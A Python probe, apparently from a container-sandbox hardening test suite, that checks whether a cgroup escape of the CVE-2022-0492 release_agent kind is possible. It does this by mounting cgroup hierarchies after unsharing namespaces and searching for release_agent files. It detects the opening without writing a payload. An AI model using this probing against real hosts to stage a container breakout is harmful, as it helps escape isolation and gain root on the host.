"""Escape through the cgroup file system.

Technique: CVE-2022-0492 and the older trick: mount a hierarchy of version 1, write a release_agent, which the kernel runs as root outside when a cgroup
    empties. Also whatever cgroup mount is in sight: moving oneself up, or out of the limits.
Success: a cgroup file system is mounted or found, or a release_agent opens.
Stopped by: seccomp, no_capabilities, root_filesystem
"""
import glob
import tempfile


def attack():
    def mounted_in(place, kind, options):
        syscall("mount", b"cgroup", place.encode(), kind, 0, options)
        found = os.listdir(place)
        syscall("umount2", place.encode(), 2)
        return f"mounted {kind} with {options}: {found[:3]}"

    place = tempfile.mkdtemp(dir="/work")
    won = []
    for kind, options in ((b"cgroup", b"rdma"), (b"cgroup", b"memory"), (b"cgroup2", None)):
        for flags in (0, 0x1000_0000 | 0x2_0000 | 0x200_0000):
            def child(kind=kind, options=options, flags=flags):
                if flags:
                    syscall("unshare", flags)
                return mounted_in(place, kind, options)

            came = answer(forked, child)
            if came.startswith("mounted"):
                won.append(came)
    with open("/proc/self/mountinfo") as mounts:
        won += [line for line in mounts if " - cgroup" in line]
    won += glob.glob("/sys/fs/cgroup/*") + glob.glob("/**/release_agent")
    return won and f"{won}"


def twin():
    """Which cgroup one is in, which runtimes ask to learn their limits; it is the root of its own namespace."""
    with open("/proc/self/cgroup") as lines:
        assert {line.rstrip("\n").split(":", 2)[2] for line in lines} <= {"/"}
